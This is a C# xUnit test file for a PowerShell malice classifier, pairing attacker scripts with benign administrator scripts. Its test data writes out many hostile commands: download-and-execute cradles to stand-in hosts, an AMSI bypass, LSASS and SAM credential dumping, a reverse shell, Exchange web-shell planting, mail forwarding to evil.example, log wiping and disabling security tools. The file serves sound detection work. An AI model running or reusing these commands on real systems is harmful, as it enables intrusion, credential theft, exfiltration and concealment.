using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

public sealed class JudgementTests
{
    [Theory]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", "download-and-execute")]
    [InlineData("$c = (New-Object Net.WebClient).DownloadString('http://evil.example/a'); $d = $c.Trim(); & ([scriptblock]::Create($d))", "download-and-execute")]
    [InlineData("iwr http://evil.example/a -UseBasicParsing | iex", "download-and-execute")]
    [InlineData("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiIni'+'tFailed','NonPublic,Static').SetValue($null,$true)", "amsi-bypass")]
    [InlineData("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 600 C:\\x.dmp full", "lsass-dump")]
    [InlineData("reg save hklm\\sam C:\\Windows\\Temp\\s; reg save hklm\\system C:\\Windows\\Temp\\y", "hives-saved")]
    [InlineData("schtasks /create /tn blackball /tr \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.example/a.jsp')\" /sc minute /mo 120", "task-with-payload")]
    [InlineData("$c = New-Object Net.Sockets.TCPClient('203.0.113.9',443); $s=$c.GetStream(); while(($i=$s.Read($b,0,$b.Length)) -ne 0){ $r = (iex $d 2>&1 | Out-String); $s.Write($r,0,$r.Length) }", "reverse-shell")]
    [InlineData("cmd /c \"wmic product where \"name like '%Eset%'\" call uninstall /nointeractive\"; cmd /c \"wmic product where \"name like '%Kaspersky%'\" call uninstall\"", "security-products-removed")]
    [InlineData("Start-Process x.exe -ArgumentList '-o stratum+tcp://pool.example:3333 -u 4A'", "miner")]
    [InlineData("$b=(New-Object Net.WebClient).DownloadData('http://192.0.2.8/x.png'); $o=@(); foreach($x in $b){$o+=$x -bxor 0x2a}; [Reflection.Assembly]::Load([byte[]]$o)", "assembly-from-bytes")]
    [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $r=New-Object IO.StreamReader $c.Request.InputStream; $o=iex $r.ReadToEnd()", "download-and-execute")]
    [InlineData("New-MailboxExportRequest -Mailbox a -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx", "mailbox-exported-as-page")]
    [InlineData("@echo off\nset x=c^e^r^t^u^t^i^l\n%x% -urlcache -split -f http://192.0.2.8/a.txt %temp%\\a.txt & %x% -decode %temp%\\a.txt %temp%\\a.exe & start %temp%\\a.exe", "download-to-file-and-run")]
    [InlineData("Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){}</script>'", "page-through-exchange-command")]
    [InlineData("New-ExchangeCertificate -GenerateRequest -RequestFile '\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\b.aspx' -SubjectName 'CN=x'", "page-through-exchange-command")]
    [InlineData("[IO.File]::WriteAllBytes('C:\\inetpub\\wwwroot\\aspnet_client\\lo.aspx',[Convert]::FromBase64String($b))", "page-written-from-bytes")]
    [InlineData("Install-TransportAgent -Name 'Interop' -TransportAgentFactory 'I.F' -AssemblyPath 'C:\\Windows\\Temp\\i.dll'", "transport-agent-from-writable-folder")]
    [InlineData("Get-Mailbox | % { New-MailboxExportRequest -Mailbox $_.Alias -FilePath \"\\\\localhost\\c$\\programdata\\$($_.Alias).pst\" }; Compress-Archive C:\\programdata\\*.pst C:\\inetpub\\wwwroot\\aspnet_client\\t.zip", "packed-into-web-folder")]
    [InlineData("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }; foreach ($s in 'MSExchangeIS','MSSQLSERVER','VeeamBackupSvc') { Stop-Service $s -Force }", "services-of-value-stopped")]
    [InlineData("wevtutil el | ForEach-Object { wevtutil cl $_ }", "all-event-logs-cleared")]
    [InlineData("wevtutil cl Security; fsutil usn deletejournal /D C:", "journal-deleted")]
    [InlineData("Clear-EventLog Security; wevtutil cl System; Remove-Item (Get-PSReadlineOption).HistorySavePath; fsutil usn deletejournal /D C:", "history-removed")]
    [InlineData("net user support$ P@ss /add; net localgroup administrators support$ /add; reg add 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList' /v support$ /t REG_DWORD /d 0", "account-hidden-from-logon")]
    [InlineData("iwr https://files.example/ch.exe -OutFile C:\\Windows\\Temp\\ch.exe; Start-Process C:\\Windows\\Temp\\ch.exe -ArgumentList 'client 198.51.100.31:443 R:socks'", "tunnel-opened")]
    [InlineData("$id = (ps lsass).id; $dll = (gci C:\\windows\\system32\\c?msv?s.dll).FullName; & rundll32 \"$dll,#24\" $id C:\\l.tmp full", "lsass-dump-by-number")]
    [InlineData("setspn -T corp.local -Q */* | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_ }", "service-tickets-requested-for-all")]
    [InlineData("$a=[Ref].Assembly.GetTypes();foreach($b in $a){if($b.Name -like '*iUtils'){$c=$b}};$d=$c.GetFields('NonPublic,Static');[Runtime.InteropServices.Marshal]::Copy($x,0,$p,1)", "engine-fields-overwritten")]
    [InlineData("certutil -urlcache -split -f http://files.example/a.txt C:\\Windows\\Temp\\a.exe; C:\\Windows\\Temp\\a.exe", "fetched-by-certificate-tool")]
    [InlineData("Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest' -Name UseLogonCredential -Value 1; Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' -Name RunAsPPL -Value 0", "cleartext-passwords-enabled")]
    [InlineData("reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f; reg add HKLM\\X\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f", "lsass-protection-removed")]
    [InlineData("$w=[Activator]::CreateInstance([Type]::GetTypeFromProgID('Excel.Application','10.0.0.5')); $w.DDEInitiate('cmd','/c powershell -nop -w hidden -c iex(irm http://files.example/a)')", "remote-object-that-starts-programs")]
    [InlineData("wmic /node:srv1 process call create 'powershell -w hidden -c iex(irm http://203.0.113.5/a)'", "hidden-shell-that-fetches")]
    [InlineData("$p='C:\\Users\\Public\\upd.ps1'; (iwr 'http://files.example/u').Content | Set-Content $p; schtasks /create /tn x /tr \"powershell -ep bypass -w hidden -f $p\" /sc onlogon", "script-fetched-to-writable-folder")]
    [InlineData("[Reflection.Assembly]::LoadFile('C:\\Users\\Public\\r.dll').GetType('R.E'); Remove-Item $MyInvocation.MyCommand.Path -Force", "assembly-from-writable-folder")]
    [InlineData("Add-Type -Path C:\\Users\\Public\\r.dll; Remove-Item $PSCommandPath", "deletes-itself")]
    [InlineData("$a=[Security.Cryptography.Aes]::Create();$b=[Convert]::FromBase64String($e);[Reflection.Assembly]::Load($a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length))", "assembly-from-encrypted-bytes")]
    [InlineData("Uninstall-WindowsFeature Windows-Defender; reg add 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' /v DisableAntiSpyware /t REG_DWORD /d 1 /f", "defender-disabled-several-ways")]
    [InlineData("Get-Service | ? {$_.DisplayName -match 'Sophos|Symantec|CrowdStrike'} | % { Stop-Service $_ -Force }", "security-products-stopped")]
    [InlineData("Copy-Item \\\\203.0.113.9\\pub\\shell.ashx C:\\inetpub\\wwwroot\\aspnet_client\\a.ashx", "page-copied-from-address")]
    [InlineData("netsh interface portproxy add v4tov4 listenport=8443 connectaddress=198.51.100.8 connectport=443", "port-forwarded-to-public-address")]
    [InlineData("Get-Mailbox | % { Add-MailboxPermission -Identity $_.Alias -User svc -AccessRights FullAccess -AutoMapping $false }; New-InboxRule -Mailbox ceo -Name '.' -ForwardTo 'a@evil.example'", "mail-diverted-by-rule")]
    [InlineData("Get-Mailbox | % { Add-MailboxPermission -Identity $_.Alias -User svc -AccessRights FullAccess -AutoMapping $false }; New-InboxRule -Mailbox ceo -Name '..' -RedirectTo 'a@evil.example'", "all-mailboxes-opened")]
    [InlineData("gci C:\\Users -Recurse -Include *.kdbx,*.rdg,id_rsa | Copy-Item -Destination C:\\ProgramData\\c; vaultcmd /listcreds:x", "secret-files-collected")]
    [InlineData("New-Item 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' -Force | New-ItemProperty -Name Debugger -Value cmd.exe", "logon-screen-backdoor")]
    [InlineData("$b = (iwr 'https://img.example/cat.png').Content; $o=New-Object byte[] 9; 0..8|%{ $o[$_] = $b[$_*4] -band 15 }; IEX([Text.Encoding]::ASCII.GetString($o))", "download-and-execute")]
    [InlineData("Get-Process lsass; procdump64.exe -accepteula -ma lsass.exe C:\\l.dmp", "lsass-dump")]
    public void Intruders_scripts_are_called_malicious(string script, string reason)
    {
        var judgement = Deobfuscator.Judge(script);
        Assert.True(judgement.Malicious);
        Assert.Contains(judgement.Reasons, one => one.Key == reason);
        Assert.NotEmpty(judgement.Techniques);
    }

    [Theory]
    [InlineData("Invoke-WebRequest https://download.microsoft.com/x.msi -OutFile C:\\x.msi; Start-Process msiexec -ArgumentList '/i C:\\x.msi /qn' -Wait")]
    [InlineData("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")]
    [InlineData("Add-Type -TypeDefinition 'public class A {}'; [Convert]::FromBase64String('AAAA')")]
    [InlineData("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File C:\\Scripts\\backup.ps1'; Register-ScheduledTask -TaskName Backup -Action $a")]
    [InlineData("# sekurlsa::logonpasswords is what we look for\nGet-WinEvent -LogName Security | Where-Object Id -eq 4624")]
    [InlineData("Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Export-Csv C:\\report.csv")]
    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $false")]
    [InlineData("New-MailboxExportRequest -Mailbox leaver -FilePath \\\\fs01\\pst$\\leaver.pst")]
    [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $b=[Text.Encoding]::UTF8.GetBytes('up'); $c.Response.OutputStream.Write($b,0,2)")]
    [InlineData("Set-OabVirtualDirectory -Identity 'OAB (Default Web Site)' -ExternalUrl https://mail.contoso.com/OAB")]
    [InlineData("New-ExchangeCertificate -GenerateRequest -RequestFile C:\\Certs\\mail.req -SubjectName 'CN=mail.contoso.com'")]
    [InlineData("Install-TransportAgent -Name 'Signatures' -TransportAgentFactory 'S.F' -AssemblyPath 'C:\\Program Files\\Vendor\\Agent.dll'; Restart-Service MSExchangeTransport")]
    [InlineData("Compress-Archive C:\\inetpub\\logs\\LogFiles\\W3SVC1\\*.log D:\\Archive\\iis.zip")]
    [InlineData("Stop-Service SQLSERVERAGENT; Restart-Service MSSQLSERVER")]
    [InlineData("wevtutil el | Select-String Exchange; wevtutil cl Application")]
    [InlineData("vssadmin delete shadows /for=D: /oldest /quiet; vssadmin resize shadowstorage /for=D: /on=D: /maxsize=20%")]
    [InlineData("iex ((New-Object Net.WebClient).DownloadString('https://tool.example/install.ps1'))")]
    [InlineData("ssh -L 8080:localhost:80 admin@host; setspn -L svc-exchange")]
    [InlineData("certutil -verify -urlfetch C:\\Certs\\mail.cer; fsutil usn queryjournal C:")]
    [InlineData("Set-ItemProperty HKLM:\\X\\Lsa -Name RunAsPPL -Value 1; Set-ItemProperty HKLM:\\X\\WDigest -Name UseLogonCredential -Value 0")]
    [InlineData("Get-Process lsass | Select-Object WorkingSet64; procdump64.exe -accepteula -ma w3wp.exe C:\\Dumps")]
    [InlineData("netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.8 connectport=80; netsh interface portproxy show all")]
    [InlineData("New-InboxRule -Mailbox jdoe -Name 'Newsletters' -From 'news@vendor.example' -MoveToFolder 'jdoe:\\News'; Add-MailboxPermission -Identity shared -User jdoe -AccessRights FullAccess")]
    [InlineData("New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\w3wp.exe' -Name DumpType -Value 2")]
    [InlineData("Copy-Item \\\\deploy\\web\\default.aspx C:\\inetpub\\wwwroot\\; Restart-Service 'Sophos Agent'; Get-Service WinDefend, Sense")]
    [InlineData("Add-Type -Path 'C:\\Program Files\\Vendor\\Api.dll'; Get-ChildItem C:\\Users -Recurse -Include *.pst | Copy-Item -Destination D:\\Archive")]
    public void Administrators_scripts_are_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);

    [Fact]
    public void Indicators_are_read_from_the_decoded_text()
    {
        var judgement = Deobfuscator.Judge("$u='ht'+'tp://t.example.org/a.jsp'; $w=New-Object Net.WebClient; $w.Headers.Add('User-Agent','Lemon-Test'); $w.DownloadFile($u,'C:\\Windows\\Temp\\m6.bin'); "
            + "Add-MpPreference -ExclusionPath 'C:\\'; New-Object Threading.Mutex($true,'Global\\eLocalIf'); New-ItemProperty HKLM:\\Software\\X -Name a");
        Assert.Contains(new("url", "http://t.example.org/a.jsp"), judgement.Indicators);
        Assert.Contains(new("domain", "t.example.org"), judgement.Indicators);
        Assert.Contains(new("user-agent", "Lemon-Test"), judgement.Indicators);
        Assert.Contains(new("path", "C:\\Windows\\Temp\\m6.bin"), judgement.Indicators);
        Assert.Contains(new("mutex", "Global\\eLocalIf"), judgement.Indicators);
        Assert.Contains(judgement.Indicators, indicator => indicator.Kind == "registry");
        Assert.Contains(judgement.Indicators, indicator => indicator.Kind == "exclusion");
    }

    [Theory]
    [InlineData("$f=[IO.Path]::GetTempFileName()+'.exe';[IO.File]::WriteAllBytes($f,[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'));Start-Process $f")]
    [InlineData("iwr http://192.0.2.1/p.exe -OutFile C:\\Users\\Public\\p.exe; C:\\Users\\Public\\p.exe")]
    [InlineData("(New-Object Net.WebClient).DownloadFile('http://files.example/x.exe',\"$env:TEMP\\x.exe\");Start-Process \"$env:TEMP\\x.exe\"")]
    [InlineData("vssadmin delete shadows /all /quiet; bcdedit /set {default} recoveryenabled no")]
    [InlineData("New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'")]
    public void Traits_that_are_strong_together_decide(string script) => Assert.True(Deobfuscator.Judge(script).Malicious);

    [Theory]
    [InlineData("Invoke-WebRequest https://dist.example/setup.exe -OutFile $env:TEMP\\setup.exe; Start-Process $env:TEMP\\setup.exe -Wait")]
    [InlineData("New-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Agent -Value 'C:\\Program Files\\Agent\\agent.exe'")]
    [InlineData("vssadmin list shadows; bcdedit /enum")]
    public void Each_of_them_alone_does_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);

    /// <summary>An honest script, and what takes its shape for something else.</summary>
    [Theory]
    [InlineData("Import-Module ActiveDirectory\n$r = (Get-Acl \"AD:\\$d\").Access | ? { $_.ObjectType -eq '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2' }\nif ($r) { Write-Warning 'Somebody could run DCSync (lsadump::dcsync).' }",
        "Import-Module ActiveDirectory\n$r = (Get-Acl \"AD:\\$d\").Access\nif ($r) { & C:\\t\\m.exe 'lsadump::dcsync /all' exit }")]
    [InlineData("$bad = @()\n$t = (Get-Process svchost).Threads.Count\nif ($t -lt 5) { $bad += \"only $t threads of the event log (Invoke-Phant0m? COMPlus_ETWEnabled=0?)\" }\n$bad | ForEach-Object { Write-Warning $_ }; exit 1",
        "[Environment]::SetEnvironmentVariable('COMPlus_ETWEnabled', '0', 'Machine')")]
    [InlineData("$rules = @'\nrule m { strings: $a = \"sekurlsa::logonpasswords\" condition: any of them }\n'@\nSet-Content C:\\y\\r.yar $rules\n& C:\\y\\yara64.exe C:\\y\\r.yar C:\\Users",
        "$rules = @'\nprivilege::debug\nsekurlsa::logonpasswords\n'@\nSet-Content C:\\y\\r.txt $rules\ncmd /c 'C:\\y\\y64.exe < C:\\y\\r.txt'")]
    [InlineData("Describe 'Rules' {\n It 'flags <Name>' -TestCases @(\n @{ Name = 'dump'; Text = 'rundll32.exe comsvcs.dll, MiniDump 600 out.dmp full' }\n ) { param($Name, $Text) (Test-ScriptText -Text $Text).Rule | Should -Be $Name }\n}",
        "Describe 'Rules' {\n It 'runs' -TestCases @(\n @{ Name = 'dump'; Text = 'rundll32.exe comsvcs.dll, MiniDump 600 out.dmp full' }\n ) { param($Name, $Text) cmd /c $Text }\n}")]
    [InlineData("foreach ($l in 'Security') { wevtutil epl $l \"D:\\IR\\$l.evtx\" }\nGet-NetTCPConnection | Export-Csv D:\\IR\\n.csv\nGet-Process | Export-Csv D:\\IR\\p.csv\nreg save HKLM\\SAM D:\\IR\\SAM.hiv\nCopy-Item C:\\Windows\\Prefetch\\*.pf D:\\IR\nGet-FileHash D:\\IR\\*",
        "Get-NetTCPConnection | Export-Csv C:\\Users\\Public\\n.csv\nGet-Process | Export-Csv C:\\Users\\Public\\p.csv\nreg save HKLM\\SAM C:\\Users\\Public\\SAM.hiv\nCompress-Archive C:\\Users\\Public\\* C:\\Users\\Public\\a.zip")]
    [InlineData("if ((Get-BitLockerVolume E:).ProtectionStatus -ne 'On') { throw 'not encrypted' }\nntdsutil.exe \"activate instance ntds\" \"ifm\" \"create sysvol full E:\\IFM\" quit quit",
        "ntdsutil.exe \"activate instance ntds\" \"ifm\" \"create full C:\\t\\i\" quit quit\nCompress-Archive C:\\t\\i C:\\t\\i.zip")]
    [InlineData("$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes(\"& '$root\\report.ps1' -Days 1\"))\n$a = New-ScheduledTaskAction -Execute powershell.exe -Argument \"-NoProfile -WindowStyle Hidden -EncodedCommand $e\"\nRegister-ScheduledTask 'Report' -Action $a",
        "$a = New-ScheduledTaskAction -Execute powershell.exe -Argument \"-NoProfile -WindowStyle Hidden -EncodedCommand aQBlAHgAIAAkAHgA\"\nRegister-ScheduledTask 'Report' -Action $a")]
    [InlineData("net user admin /active:yes\nnet localgroup Administrators \"EXAMPLE\\Workstation-Admins\" /add\nreg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
        "net user admin Passw0rd! /add\nnet localgroup Administrators admin /add\nreg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f")]
    [InlineData("Describe 'Endpoint' {\n It 'blocks the sample' {\n  $s = \"'AMSI Test Sample: \" + '7e72c3ce' + \"-0ac1'\"\n  { Invoke-Expression $s } | Should -Throw\n }\n It 'has no exclusions' { (Get-MpPreference).ExclusionPath | Should -BeNullOrEmpty }\n}",
        "$s = 'Set-Mp' + 'Prefer' + 'ence -Disable' + 'RealtimeMonitoring $true'; Invoke-Expression $s")]
    public void Of_twins_only_the_bad_one_is_malicious(string honest, string bad)
    {
        Assert.False(Deobfuscator.Judge(honest).Malicious);
        Assert.True(Deobfuscator.Judge(bad).Malicious);
    }
}
